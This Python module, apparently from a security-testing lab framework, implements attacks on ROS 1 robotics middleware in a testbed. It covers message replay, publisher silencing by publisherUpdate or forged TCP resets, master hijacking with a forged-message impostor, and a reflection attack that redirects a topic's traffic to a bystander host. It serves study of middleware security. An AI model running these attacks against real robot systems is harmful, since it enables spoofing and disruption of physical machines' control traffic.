"""ROS 1: messages in TCPROS or UDPROS, a master and nodes whose APIs answer anybody. It protects nothing."""

import struct
from typing import TYPE_CHECKING
from xmlrpc.client import Binary

from comseclab.attack import forged, tcp
from comseclab.attack.dialect import Dialect, Prepared, Setting
from comseclab.attack.dialects import ros1_graph as graph
from comseclab.attack.dialects.ros1_publisher import FIRST, FURTHER, UDPROS, Impostor, header_of
from comseclab.attack.frame import TCP, UDP, Frame
from comseclab.middleware.base import Material
from comseclab.middleware.ros1 import MASTER_PORT
from comseclab.trial.spec import Factors

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

    from comseclab.attack.scene import Scene

REPLAYED = 20
LARGE = 8000
"""Half a segment of the testbed's frames: longer messages fill several."""

SILENCES = {
    "update": "publisherUpdate at the subscriber's API: there is no publisher",
    "reset": "a TCP reset in the publisher's name",
}


class Ros1(Dialect):
    stacks = ("ros1",)
    silences = SILENCES

    def refuse(self, attack: str, factors: Factors) -> str | None:
        if attack in ("master-hijack", "reflection"):
            return None
        if attack == "silence-reset" and factors.reliability == "best-effort":
            return "UDPROS has no connection to reset"
        return super().refuse(attack, factors)

    def prepare(self, setting: Setting) -> Prepared:
        """Nobody has an identity, so every node gets the same."""
        nodes = {
            rogue: setting.middleware.node_settings(setting.spec, place, Material())
            for rogue, place in setting.rogues.items()
        }
        return Prepared(Material(), nodes)

    def is_message(self, frame: Frame, scene: "Scene") -> bool:
        """UDPROS: any datagram of a message. TCPROS: a segment longer than what the two hosts' APIs say."""
        ends = frame.source[0], frame.destination[0]
        carrier = UDP if scene.spec.trial.factors.reliability == "best-effort" else TCP
        if frame.protocol != carrier or ends != (scene.writer.address, scene.reader.address):
            return False
        if carrier == UDP:
            return len(frame.payload) > UDPROS.size and frame.payload[4] in (FIRST, FURTHER)
        largest = scene.spec.trial.streams[0].max_size
        return frame.source[1] != MASTER_PORT and len(frame.payload) > min(largest // 2, LARGE)

    def replay(self, scene: "Scene", *, resequenced: bool) -> None:
        """UDPROS: the recorded datagrams, before genuine ones.

        TCPROS: a publisher of the attacker's serves the messages, since TCP discards a segment that it had;
        re-sequenced, they stand in the place of genuine segments of the same length.
        """
        recorded = whole(scene.messages())[:REPLAYED]
        if scene.spec.trial.factors.reliability == "best-effort":
            self._interleave(scene, recorded, resequenced=resequenced)
        elif resequenced:
            tcp.substitute(scene, [frame.payload for frames in recorded for frame in frames])
        else:
            Impostor(scene, [content(frames) for frames in recorded]).register(graph.learn(scene))

    @staticmethod
    def _interleave(scene: "Scene", recorded: "Sequence[Sequence[Frame]]", *, resequenced: bool) -> None:
        """A recorded message before each genuine one, not among its datagrams: those must come in a row."""
        left = iter(recorded)

        def rule(frame: Frame) -> "Iterable[tuple[float, Frame]]":
            if scene.dialect.is_message(frame, scene) and frame.payload[4] == FIRST:
                for old in next(left, ()):
                    scene.inject_on_path(_renumbered(old, frame) if resequenced else old)
            return ((0.0, frame),)

        scene.follow(rule)

    def silence(self, scene: "Scene", message: str) -> None:
        if message == "reset":
            tcp.reset(scene)
            return
        topic = graph.learn(scene)
        graph.call(scene, topic.subscriber_api, "publisherUpdate", "/master", topic.name, [])
        scene.note(f"told {topic.subscriber_api[0]} that {topic.name} has no publisher")

    def hijack(self, scene: "Scene") -> None:
        """Sign the genuine publisher off at the master, and on one that forges from what was recorded."""
        genuine, own = scene.spec.trial.nonce, scene.spec.forged_nonce
        messages = [forged.with_nonce(content(frames), genuine, own) for frames in whole(scene.messages())]
        topic = graph.learn(scene)
        impostor = Impostor(scene, messages)
        api = graph.uri(topic.publisher_api)
        graph.call(scene, topic.master, "unregisterPublisher", topic.publisher, topic.name, api)
        scene.note(f"signed {topic.publisher} off at the master")
        impostor.register(topic)

    def reflect(self, scene: "Scene") -> None:
        """Ask the publisher for the topic by UDPROS as if one were the bystander, who then gets every message."""
        topic = graph.learn(scene)
        header = header_of({"callerid": graph.CALLER, "topic": topic.name, "type": topic.type, "md5sum": "*"})
        wanted = ["UDPROS", Binary(header), scene.hosts["bystander"].address, 9, 1500]
        graph.call(scene, topic.publisher_api, "requestTopic", graph.CALLER, topic.name, [wanted])
        scene.note("asked the publisher to send to the bystander")


def whole(frames: "Sequence[Frame]") -> list[list[Frame]]:
    """Of frames that carry messages, those that make up whole ones: a segment each, or all datagrams in a row."""
    messages: list[list[Frame]] = []
    for frame in frames:
        if frame.protocol == UDP and frame.payload[4] == FURTHER and messages:
            messages[-1].append(frame)
        else:
            messages.append([frame])
    return [message for message in messages if _is_whole(message)]


def _is_whole(message: "Sequence[Frame]") -> bool:
    carried = content(message)
    return len(carried) >= 4 and struct.unpack_from("<I", carried)[0] == len(carried) - 4


def content(message: "Sequence[Frame]") -> bytes:
    """What the frames of a message carry: its length and its bytes."""
    head = UDPROS.size if message[0].protocol == UDP else 0
    return b"".join(frame.payload[head:] for frame in message)


def _renumbered(old: Frame, fresh: Frame) -> Frame:
    """A recorded datagram as it would stand in the message that begins with `fresh`, in the same connection."""
    connection, _, number, _ = UDPROS.unpack_from(fresh.payload)
    _, operation, _, block = UDPROS.unpack_from(old.payload)
    payload = UDPROS.pack(connection, operation, number, block) + old.payload[UDPROS.size :]
    return fresh.with_payload(payload)


DIALECT = Ros1()
